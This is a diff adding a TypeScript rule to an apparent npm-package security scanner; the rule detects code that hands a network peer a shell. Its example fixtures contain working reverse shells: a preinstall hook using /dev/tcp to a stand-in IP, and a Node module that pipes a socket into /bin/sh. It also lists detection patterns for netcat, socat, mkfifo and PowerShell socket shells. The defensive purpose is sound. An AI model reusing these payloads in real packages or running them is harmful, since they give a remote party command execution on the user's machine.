@@ -1,0 +1,124 @@
+import type { Action, Fact, Flow, Rule, Text } from '../lib/types.ts'
+import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
+import { findingAt, findingOfFlow, quote, severityOf, when } from './finding.ts'
+import type { RuleFinding } from './finding.ts'
+
+type Starts = Extract<Fact, { kind: 'starts' }>
+
+/** A shell whose input and output are somebody else's. */
+export const socketShell: Rule = {
+  meta: {
+    id: 'socket-shell',
+    title: 'Gives somebody else a shell on this machine',
+    severity: 'critical',
+    description:
+      'A shell or interpreter is started and connected to a network socket: whoever answers at the other end types ' +
+      'commands here and reads what they print. No library needs that; terminals for the browser let their own caller ' +
+      'decide who connects.',
+    references: ['1337qq-js, rpc-websocket (2019-20)', 'getpackage and 50 reverse shells of 2026'],
+    blindSpots: ['Commands that are polled and run one by one: see remote-code.'],
+    examples: {
+      flags: [
+        {
+          title: 'a hook opens /dev/tcp',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","scripts":{"preinstall":"bash -c \\"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\\""}}',
+          },
+        },
+        {
+          title: 'a module pipes a socket into sh',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const sh = require('child_process').spawn('/bin/sh', [])\n" +
+              "const c = require('net').connect(4444, '203.0.113.5', () => {\n  c.pipe(sh.stdin)\n  sh.stdout.pipe(c)\n})\n",
+          },
+        },
+      ],
+      passes: [
+        {
+          title: 'a program is given what the caller passes',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const { spawn } = require('child_process')\nexports.run = text => {\n  const sh = spawn('sh')\n  sh.stdin.end(text)\n  return sh.stdout\n}\n",
+          },
+        },
+      ],
+    },
+  },
+  check(inspection, context) {
+    const found = new Map<string, RuleFinding>()
+    const add = (finding: RuleFinding): void => {
+      const key = `${finding.location.path}:${finding.location.line}`
+      if (!found.has(key)) found.set(key, finding)
+    }
+    for (const flow of inspection.flows) {
+      const to = socketOf(flow)
+      if (to === undefined) continue
+      const place = placeOf(to, inspection, context)
+      if (place.kind === 'local') continue
+      const action = weigh(flow, isStranger(place), place.kind === 'capture')
+      const where = place.host?.shown ?? 'an address computed at run time'
+      const message =
+        `${when(flow.phase, flow.byCall)} it connects a shell (${shellOf(flow)}) to ${where}, ${placeInWords(place)}: ` +
+        'whoever is there can run commands on this machine. Do not install it.'
+      add(findingOfFlow(flow, { action, severity: severityOf(action), message }))
+    }
+    for (const fact of inspection.facts)
+      if (fact.kind === 'starts') for (const one of ofCommand(fact)) add(one)
+    return [...found.values()]
+  },
+}
+
+const shell =
+  /(?:^|[/\\\s"'])(?:(?:ba|da|z|k|c)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|python[0-9.]*)(?:\s|$|")/i
+
+/** Both directions: what the socket says goes in, or what the shell prints goes out. */
+function socketOf({ source, sink }: Flow): readonly Text[] | undefined {
+  if (sink.kind === 'command-stdin' && source.kind === 'network' && sink.destinations.some(isBareShell))
+    return [source.name]
+  if (sink.kind === 'network' && source.kind === 'command-output' && isBareShell(source.name))
+    return sink.destinations
+  return undefined
+}
+
+/** A shell without a command: it waits for one. */
+function isBareShell(command: Text): boolean {
+  return (
+    shell.test(command) &&
+    /^\S+(?:\s+-[a-z]{1,3}|\s+\/[a-z])?\s*$/i.test(command.trim()) &&
+    !/\s-[a-z]*c\b/i.test(command)
+  )
+}
+
+function shellOf({ source, sink }: Flow): string {
+  return quote((sink.kind === 'network' ? source.name : sink.destinations[0]) ?? 'sh')
+}
+
+function weigh(flow: Flow, stranger: boolean, capture: boolean): Action {
+  if (!flow.byCall && flow.phase !== 'run') return flow.certain ? 'block' : 'ask'
+  if (capture) return flow.certain ? 'block' : 'ask'
+  return stranger ? 'ask' : 'note'
+}
+
+/** Shells have their own ways to a socket. */
+const redirected = [
+  /\/dev\/(?:tcp|udp)\/\S+/,
+  /\b(?:nc|ncat|netcat)\b[^|;&]*\s-[a-z]*[ec]\b/,
+  /\bsocat\b.*\bexec:/i,
+  /\bmkfifo\b.*\b(?:nc|ncat|netcat|telnet|openssl)\b/s,
+  /\bNew-Object\s+(?:System\.)?Net\.Sockets\.TCPClient\b/i,
+  /\bpty\.spawn\b|\bsocket\.socket\b.*\b(?:dup2|subprocess)\b/s,
+]
+
+function ofCommand(fact: Starts): readonly RuleFinding[] {
+  const command = fact.commands.find(text => redirected.some(pattern => pattern.test(text)))
+  if (command === undefined) return []
+  const action = fact.phase === 'run' && fact.byCall ? 'ask' : 'block'
+  const message =
+    `${when(fact.phase, fact.byCall)} it runs ${quote(command, 120)}, which ties a shell to a network connection: ` +
+    'whoever is at the other end can run commands on this machine. Do not install it.'
+  return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
+}
